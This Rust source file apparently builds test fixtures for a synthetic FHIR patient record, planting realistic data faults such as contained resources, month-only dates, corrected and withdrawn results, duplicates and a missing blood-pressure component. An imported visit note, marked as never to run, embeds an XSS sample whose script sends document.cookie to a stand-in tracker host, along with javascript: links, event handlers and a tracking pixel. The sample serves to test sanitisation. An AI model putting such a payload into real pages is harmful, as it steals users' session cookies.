//! What went wrong in Walter's record on its way through two countries and three systems. Each is seen in real ones.

use serde_json::json;

use super::walter::{MOVED, in_mmol};
use crate::people::folder::Folder;
use crate::people::kinds::documents::{PROGRESS, Sheet};
use crate::people::kinds::labs::{Draw, LAKESHORE, Laboratory, NORTHGATE, RIVERSIDE};
use crate::people::kinds::visits::FOLLOW_UP;
use crate::people::shapes::{LOINC, concept, hl7, instant, quantity, reference, shown};
use crate::people::tables::clinicians::{ABARA, TREMBLAY};
use crate::people::tables::panels::{COUNT, GLUCOSE, METABOLIC};
use crate::people::tables::problems::DIABETES;

/// The laboratory of that time: Toronto, then one that sends no flags, then Riverside.
pub fn laboratory(months_ago: i64) -> &'static Laboratory {
    match months_ago {
        months if months > MOVED => &LAKESHORE,
        months if months > 20 => &NORTHGATE,
        _ => &RIVERSIDE,
    }
}

pub fn file(walter: &mut Folder) {
    from_toronto(walter);
    panel_of_members(walter);
    corrected_and_withdrawn(walter);
    without_report(walter);
    old_note(walter);
    half_a_blood_pressure(walter);
}

/// Contained performers, references to another server, a month for a date, a local code.
fn from_toronto(walter: &mut Folder) {
    let day = walter.calendar.office_day(75);
    let drawn = walter.draw(Draw { by: &TREMBLAY, laboratory: &LAKESHORE, ..Draw::of(&METABOLIC, day) });
    let glucose = drawn.of("glucose").to_owned();
    in_mmol(walter, &glucose);
    walter.edit(&drawn.report, |report| {
        report["contained"] = json!([
            {"resourceType": "Practitioner", "id": "reader", "name": [{"family": "Arsenault", "given": ["Luc"], "prefix": ["Dr."]}]},
            {"resourceType": "Organization", "id": "lab", "name": "Lakeshore Core Laboratory"},
        ]);
        report["performer"] = json!([reference("#lab")]);
        report["resultsInterpreter"] = json!([reference("#reader")]);
    });
    walter.edit(&glucose, |observation| {
        observation["performer"] = json!([shown(
            "https://fhir.lakeshore.example/r4/Organization/4711",
            "Lakeshore Core Laboratory"
        )]);
        observation["code"]["coding"]
            .as_array_mut()
            .expect("codes are a list")
            .push(json!({"system": "urn:oid:2.999.4.1", "code": "GLU-S", "display": "Glucose sérique"}));
    });
    let old = walter.draw(Draw {
        by: &TREMBLAY,
        laboratory: &LAKESHORE,
        reads: &[("fasting-glucose", "108")],
        ..Draw::of(&GLUCOSE, walter.calendar.office_day(130))
    });
    let month = walter.calendar.office_day(130).strftime("%Y-%m").to_string();
    for reference in [old.report.clone(), old.of("fasting-glucose").to_owned()] {
        walter.edit(&reference, |resource| resource["effectiveDateTime"] = json!(month));
    }
    let local = walter.file(
        "local",
        "us-core-observation-lab",
        json!({
            "resourceType": "Observation",
            "status": "final",
            "category": [concept(&hl7("observation-category"), "laboratory", "Laboratory")],
            "code": {"coding": [{"system": "urn:oid:2.999.4.1", "code": "FRUC-1"}], "text": "Fructosamine"},
            "subject": walter.subject(),
            "effectiveDateTime": walter.calendar.office_day(88).year().to_string(),
            "valueQuantity": quantity("312", "umol/L", "umol/L"),
        }),
    );
    walter.remark(&local, "Taken over from paper.");
}

/// A blood count as one observation that has the others as members; the report names only that one.
fn panel_of_members(walter: &mut Folder) {
    let day = walter.calendar.office_day(3);
    let drawn = walter.draw(Draw { by: &ABARA, ..Draw::of(&COUNT, day) });
    let members: Vec<_> = drawn.all().map(reference).collect();
    let panel = walter.file(
        "cbc-panel",
        "us-core-observation-lab",
        json!({
            "resourceType": "Observation",
            "status": "final",
            "category": [concept(&hl7("observation-category"), "laboratory", "Laboratory")],
            "code": concept(LOINC, COUNT.loinc, COUNT.label),
            "subject": walter.subject(),
            "effectiveDateTime": instant(day, 9, 0),
            "issued": instant(day, 15, 0),
            "hasMember": members,
        }),
    );
    walter.edit(&drawn.report, |report| report["result"] = json!([reference(&panel)]));
}

fn corrected_and_withdrawn(walter: &mut Folder) {
    let day = walter.calendar.office_day(6);
    let wrong = walter.draw(Draw {
        by: &ABARA,
        reads: &[("fasting-glucose", "1180")],
        status: "entered-in-error",
        ..Draw::of(&GLUCOSE, day)
    });
    walter.remark(wrong.of("fasting-glucose"), "Entered in error: a comma was lost.");
    let corrected = walter.draw(Draw {
        by: &ABARA,
        reads: &[("potassium", "4.9"), ("egfr", ">60")],
        status: "corrected",
        ..Draw::of(&METABOLIC, walter.calendar.office_day(9))
    });
    walter.remark(
        corrected.of("potassium"),
        "Corrected: first told as 6.9 mmol/L; the sample was hemolyzed and was measured again.",
    );
    let cancelled = walter.draw(Draw {
        by: &ABARA,
        reads: &[("fasting-glucose", "?not-performed")],
        status: "cancelled",
        ..Draw::of(&GLUCOSE, walter.calendar.office_day(4))
    });
    walter.remark(cancelled.of("fasting-glucose"), "Not enough blood in the tube.");
}

/// Two fingertip values that belong to no report, and the second of them twice.
fn without_report(walter: &mut Folder) {
    for (value, hour) in [("131", 8), ("118", 18), ("118", 18)] {
        let body = json!({
            "resourceType": "Observation",
            "status": "final",
            "category": [concept(&hl7("observation-category"), "laboratory", "Laboratory")],
            "code": concept(LOINC, "41653-7", "Glucose [Mass/volume] in Capillary blood by Glucometer"),
            "subject": walter.subject(),
            "effectiveDateTime": instant(walter.calendar.days_ago(3), hour, 10),
            "valueQuantity": quantity(value, "mg/dL", "mg/dL"),
            "referenceRange": [{"text": "before meals 80-130"}, {"text": "two hours after meals below 180"}],
        });
        walter.file("fingertip", "us-core-observation-lab", body);
    }
}

/// Markup of an older system, with a script that must never run.
fn old_note(walter: &mut Folder) {
    let visit = walter.visit(&FOLLOW_UP, walter.calendar.office_day(63), &TREMBLAY, &DIABETES);
    walter.note(&visit, &PROGRESS, "Visit note (imported)", Sheet::Html(IMPORTED));
}

fn half_a_blood_pressure(walter: &mut Folder) {
    let visit = walter.visit(&FOLLOW_UP, walter.calendar.office_day(8), &ABARA, &DIABETES);
    let pressure = walter.blood_pressure(&visit, 148, 80);
    walter.edit(&pressure, |pressure| {
        let component = pressure["component"][1].as_object_mut().expect("a blood pressure has two parts");
        component.remove("valueQuantity");
        component.insert(
            "dataAbsentReason".to_owned(),
            json!({
                "coding": [{"system": hl7("data-absent-reason"), "code": "error", "display": "Error"}],
                "text": "Cuff slipped",
            }),
        );
    });
}

const IMPORTED: &str = r#"<html><head><title>Visit</title><style>body { color: #c00 } .hidden { display: none }</style>
<script>document.title = "owned"; fetch("https://tracker.example/?q=" + document.cookie)</script></head>
<body onload="alert('loaded')"><h2>Diabetes visit</h2>
<p>Mr. Boone feels <b>well</b>. Fasting glucose at home <i>8 to 10 mmol/L</i>.</p>
<ul><li>Metformin 1000 mg twice a day</li><li>Gliclazide stopped</li></ul>
<table border="1"><tr><th>Date</th><th>HbA1c</th></tr><tr><td>today</td><td>7.9 %</td></tr></table>
<p>See <a href="javascript:alert(1)">the leaflet</a> and <a href="https://example.org/feet">foot care</a>.</p>
<img src="https://tracker.example/pixel.png" width="1" height="1" alt=""><iframe src="https://tracker.example/"></iframe>
<p onclick="steal()">Back in three months. &mdash; Dr. J. Tremblay</p></body></html>"#;
